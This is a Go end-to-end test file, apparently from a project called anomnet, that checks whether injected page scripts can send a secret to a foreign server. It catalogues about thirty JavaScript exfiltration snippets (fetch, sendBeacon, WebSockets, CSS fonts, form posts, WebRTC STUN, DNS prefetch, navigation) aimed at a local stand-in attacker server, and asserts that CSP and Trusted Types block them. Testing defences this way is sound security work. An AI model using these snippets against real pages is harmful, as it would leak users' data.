//go:build e2e

package e2e

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"text/tabwriter"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"anomnet/cmd/internal/chromium"
)

// stranger is a server of somebody else. It takes everything and counts.
type stranger struct {
	*httptest.Server
	conns, requests atomic.Int64
}

func newStranger(t *testing.T) *stranger {
	t.Helper()
	s := &stranger{}
	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.requests.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Cross-Origin-Resource-Policy", "cross-origin")
		fmt.Fprint(w, "taken")
	}))
	s.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			s.conns.Add(1)
		}
	}
	s.Start()
	t.Cleanup(s.Close)
	return s
}

// outcome is what became of an attempt to send something away.
type outcome string

const (
	byPolicy  outcome = "blocked by " // the directive follows
	openRoad  outcome = "NOT BLOCKED" // the stranger got a request
	connected outcome = "CONNECTION"  // the stranger got a connection, but no request
	silent    outcome = "blocked"     // nothing came, and the browser did not say why
	refused   outcome = "refused by Trusted Types"
)

// attempt is code that could have been slipped into the page. to is an address of the stranger with something secret in it.
type attempt struct {
	name, js string
	normal   outcome // expected in the normal site
}

// attempts go to a foreign origin.
func attempts() []attempt {
	link := func(rel, more string) string {
		return `const l = document.createElement("link"); l.rel = "` + rel + `"; l.href = to; ` + more + ` document.head.append(l);`
	}
	element := func(tag, set string) string {
		return `const e = document.createElement("` + tag + `"); ` + set + ` document.body.append(e);`
	}
	csp := func(directive string) outcome { return byPolicy + outcome(directive) }
	return []attempt{
		{"fetch", `await fetch(to)`, csp("connect-src")},
		{"fetch, no-cors, POST", `await fetch(to, {method: "POST", mode: "no-cors", body: "secret"})`, csp("connect-src")},
		{"fetch, keepalive", `await fetch(to, {method: "POST", keepalive: true, mode: "no-cors", body: "secret"})`, csp("connect-src")},
		{"XMLHttpRequest", `const x = new XMLHttpRequest(); x.open("POST", to); x.send("secret")`, csp("connect-src")},
		{"WebSocket", `new WebSocket(to.replace("http", "ws"))`, csp("connect-src")},
		{"EventSource", `new EventSource(to)`, csp("connect-src")},
		{"sendBeacon", `navigator.sendBeacon(to, "secret")`, csp("connect-src")},
		{"WebTransport", `await new WebTransport(to.replace("http:", "https:")).ready`, csp("connect-src")},
		{"image", `new Image().src = to`, csp("img-src")},
		{"image of a style sheet", `const s = new CSSStyleSheet(); s.replaceSync("body { background: url(" + to + ") }"); document.adoptedStyleSheets.push(s)`, csp("img-src")},
		{"font of a style sheet", `const s = new CSSStyleSheet(); s.replaceSync("@font-face { font-family: x; src: url(" + to + ") } h1 { font-family: x }"); document.adoptedStyleSheets.push(s)`, csp("font-src")},
		{"style sheet", link("stylesheet", ""), csp("style-src-elem")},
		{"script", element("script", `e.type = "module"; e.src = to;`), refused},
		{"import()", `await import(to)`, csp("script-src-elem")},
		{"frame", element("iframe", `e.src = to;`), csp("frame-src")},
		{"object", element("object", `e.data = to;`), refused},
		{"video", element("video", `e.src = to;`), csp("media-src")},
		{"SVG image", `const e = document.createElementNS("http://www.w3.org/2000/svg", "image"); e.setAttribute("href", to);
			const s = document.createElementNS("http://www.w3.org/2000/svg", "svg"); s.append(e); document.body.append(s)`, csp("img-src")},
		{"web app manifest", link("manifest", ""), silent},
		{"icon", link("icon", ""), csp("img-src")},
		{"prefetch", link("prefetch", ""), csp("default-src")},
		{"preload", link("preload", `l.as = "fetch"; l.crossOrigin = "";`), csp("connect-src")},
		{"modulepreload", link("modulepreload", ""), csp("script-src-elem")},
		{"preconnect", link("preconnect", ""), connected},
		{"form", element("form", `e.action = to; e.method = "post"; e.submit();`), silent}, // form-action, in the browser's process
		{"link with ping", element("a", `e.href = "#x"; e.ping = to; e.click();`), csp("connect-src")},
		{"worker of a foreign script", `new Worker(anomnet.offline.script(to))`, refused},
		{"worker of a blob", `new Worker(URL.createObjectURL(new Blob(["fetch('" + to + "')"])))`, refused},
		{"eval", `await new Promise((ok, no) => setTimeout(() => { try { ok(eval("fetch('" + to + "')")) } catch (e) { no(e) } }))`, refused},
		{"inline script", element("script", `e.textContent = "fetch('" + to + "')";`), refused},
		{"worker: fetch", `return await ask({op: "fetch", to})`, csp("connect-src")},
		{"worker: WebSocket", `return await ask({op: "socket", to})`, csp("connect-src")},
		{"worker: import()", `return await ask({op: "import", to})`, csp("script-src-elem")},
	}
}

// probe is a worker of ours into which code was slipped.
const probe = `onmessage = async ({ data: { op, to } }) => {
	let said = "";
	self.addEventListener("securitypolicyviolation", (e) => { said = e.effectiveDirective; });
	try {
		if (op === "fetch") await fetch(to);
		if (op === "import") await import(to);
		if (op === "socket") { new WebSocket(to.replace("http", "ws")); }
	} catch {}
	await new Promise((r) => setTimeout(r, 250));
	postMessage({ said });
};
`

// exfiltrate makes an attempt in the page and returns what the browser said of it. With word, it waits longer for the browser to say something.
func (p *tab) exfiltrate(js, to string, word bool) (said string) {
	p.t.Helper()
	rounds := 8
	if word {
		rounds = 200
	}
	return p.async(`(async () => {
		const to = ` + fmt.Sprintf("%q", to) + `, before = violations.length;
		const ask = async (m) => { const w = new Worker(anomnet.offline.script(new URL("assets/js/thumbs.mjs", document.baseURI).href), {type: "module"});
			const said = await new Promise((r) => { w.onmessage = ({data}) => r(data.said); w.postMessage(m); }); w.terminate(); return said; };
		let said = "";
		try {
			said = await Promise.race([(async () => { ` + js + ` })(), new Promise((r) => setTimeout(r, 3000))]) ?? "";
		} catch (e) { if (/TrustedScript|TrustedHTML|not a worker of this page|unsafe-eval/.test(String(e))) said = "trusted types"; }
		for (let i = 0; i < ` + fmt.Sprint(rounds) + ` && !said && violations.length === before; i++) await new Promise((r) => setTimeout(r, 50)); // the browser may be slow to say
		await new Promise((r) => setTimeout(r, 50));
		return said || violations.slice(before).map((v) => v.split(" ")[0]).join("+");
	})()`)
}

func judge(said string, s *stranger) outcome {
	switch {
	case s.requests.Load() > 0:
		return openRoad
	case said == "trusted types" || strings.Contains(said, "require-trusted-types-for"):
		return refused
	case said != "":
		return byPolicy + outcome(strings.Split(said, "+")[0])
	case s.conns.Load() > 0:
		return connected
	}
	return silent
}

// TestExfiltration lets code in the page try every way that we know to send something to a stranger, under the headers that every answer has.
func TestExfiltration(t *testing.T) {
	t.Parallel()
	dir := variant(t, "assets/js/thumbs.mjs", "onmessage = ({ data }) => {", probe+"const unused = ({ data }) => {")
	p := open(t, serve(t, dir), desktop)
	var table strings.Builder
	w := tabwriter.NewWriter(&table, 0, 0, 2, ' ', 0)
	strangers := map[string]*stranger{}
	for _, a := range attempts() {
		s := newStranger(t)
		strangers[a.name] = s
		said := p.exfiltrate(a.js, s.URL+"/?secret", a.normal != silent && a.normal != connected)
		if a.normal == connected {
			assert.Eventually(t, func() bool { return s.conns.Load() > 0 }, 10*time.Second, 20*time.Millisecond, a.name)
		}
		got := judge(said, s)
		fmt.Fprintf(w, "%s\t%s\t%d connections\n", a.name, got, s.conns.Load())
		assert.Equal(t, a.normal, got, a.name)
	}
	w.Flush()
	t.Log("\n" + table.String())
	time.Sleep(time.Second) // for what comes late
	for _, a := range attempts() {
		if a.normal != openRoad {
			assert.Zero(t, strangers[a.name].requests.Load(), "%s, late", a.name)
		}
	}
}

// TestExfiltrationThatNoPolicyStops tries what CSP has no working directive for in Chromium, peer connections and look-ups of names, and shows that the
// flags of a station (docs/security.md) stop both.
func TestExfiltrationThatNoPolicyStops(t *testing.T) {
	t.Parallel()
	names := map[string]string{
		"dns-prefetch": `const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//secret-dns-prefetch.invalid"; document.head.append(l)`,
		"preconnect":   `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "//secret-preconnect.invalid"; document.head.append(l)`,
		"fetch":        `await fetch("http://secret-fetch.invalid/").catch(() => {})`,
	}
	var station []chromedp.ExecAllocatorOption
	for _, flag := range chromium.Closed() {
		name, value, _ := strings.Cut(strings.TrimPrefix(flag, "--"), "=")
		station = append(station, chromedp.Flag(name, value))
	}
	for _, c := range []struct {
		name   string
		flags  []chromedp.ExecAllocatorOption
		packet bool
		looked []string // up by the browser, by its own log
	}{
		{"as it comes", nil, true, []string{"dns-prefetch", "preconnect"}},
		{"with the flags of a station", station, false, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			stun := listenUDP(t)
			log := filepath.Join(t.TempDir(), "net.json")
			p := open(t, serve(t, siteDir(t)), desktop, append(c.flags, chromedp.Flag("log-net-log", log))...)
			for _, js := range names {
				p.exfiltrate(js, "", false)
			}
			p.exfiltrate(`const c = new RTCPeerConnection({iceServers: [{urls: "stun:" + to}]}); c.createDataChannel("secret"); await c.setLocalDescription();
				await new Promise((r) => setTimeout(r, 1500))`, stun.addr, false)
			if c.packet {
				assert.Eventually(t, func() bool { return stun.packets.Load() > 0 }, 10*time.Second, 50*time.Millisecond)
			} else {
				assert.Zero(t, stun.packets.Load())
			}
			require.NoError(t, chromedp.Cancel(p.ctx)) // which ends the log
			data, err := os.ReadFile(log)
			require.NoError(t, err)
			require.Contains(t, string(data), "127.0.0.1", "the log is there")
			for name := range names {
				asked := regexp.MustCompile(`"host":"[^"]*secret-` + name + `\.invalid`).Match(data)
				assert.Equal(t, slices.Contains(c.looked, name), asked, name)
			}
		})
	}
}

// udpListener counts packets.
type udpListener struct {
	addr    string
	packets atomic.Int64
}

func listenUDP(t *testing.T) *udpListener {
	t.Helper()
	conn, err := net.ListenPacket("udp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { conn.Close() })
	l := &udpListener{addr: conn.LocalAddr().String()}
	go func() {
		for buf := make([]byte, 2000); ; {
			if _, _, err := conn.ReadFrom(buf); err != nil {
				return
			}
			l.packets.Add(1)
		}
	}()
	return l
}

// TestExfiltrationByLeaving opens other addresses. A policy stops forms only; the browser itself stops new windows that no click asked for.
func TestExfiltrationByLeaving(t *testing.T) {
	p := open(t, serve(t, siteDir(t)), desktop)
	for _, c := range []struct {
		name, js string
		leaves   bool
	}{
		{"window.open without a click", `open(to)`, false},
		{"form", `const e = document.createElement("form"); e.action = to; e.method = "get"; document.body.append(e); e.submit()`, false},
		{"download", `const a = document.createElement("a"); a.href = to; a.download = "x"; a.click()`, true},
		{"location", `location.href = to`, true},
		{"meta refresh", `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + to; document.head.append(m)`, true},
		{"link", `const a = document.createElement("a"); a.href = to; a.click()`, true},
	} {
		s := newStranger(t)
		p.str(`setTimeout(() => { const to = "` + s.URL + `/?secret"; ` + c.js + ` })`)
		if !c.leaves {
			time.Sleep(500 * time.Millisecond)
			assert.Zero(t, s.requests.Load(), c.name)
			continue
		}
		assert.Eventually(t, func() bool { return s.requests.Load() > 0 }, 20*time.Second, 20*time.Millisecond, c.name)
		t.Logf("%s: NOT BLOCKED", c.name)
		p.navigate()
		p.waitFor(`document.documentElement?.dataset.state === "ready"`)
	}
}
